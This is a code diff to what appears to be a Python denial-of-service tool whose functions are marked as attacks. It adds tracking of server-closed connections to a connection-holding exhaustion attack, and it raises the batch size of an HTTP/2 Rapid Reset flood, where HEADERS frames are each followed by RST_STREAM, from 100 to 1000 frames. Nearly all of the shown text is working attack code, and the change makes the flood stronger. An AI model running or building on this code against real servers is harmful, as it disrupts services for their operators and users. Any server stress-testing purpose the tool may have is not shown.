@@ -101,9 +101,23 @@ def silent(target, bound):
             refused += 1
             time.sleep(0.01)
     bound.hold()
+    ended = sum(_has_ended(one) for one in held)
     for one in held:
         one.close()
-    return {"connected": len(held), "refused": refused}
+    return {"connected": len(held), "refused": refused, "ended by the server": ended}
+
+
+def _has_ended(one):
+    """Whether the peer has closed it. What it sent before is dropped."""
+    one.setblocking(False)
+    try:
+        while one.recv(1 << 16):
+            pass
+    except BlockingIOError:
+        return False
+    except OSError:
+        pass
+    return True
 
 
 @attack
@@ -164,8 +178,8 @@ def rapid_reset(target, bound):
         for stream in streams():
             batch.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                          + http2.frame(http2.RST_STREAM, 0, stream, reset))
-            if len(batch) == 100:
-                yield 100, b"".join(batch)
+            if len(batch) == 1000:
+                yield 1000, b"".join(batch)
                 batch.clear()
     return over_and_over(target, bound, messages)
 
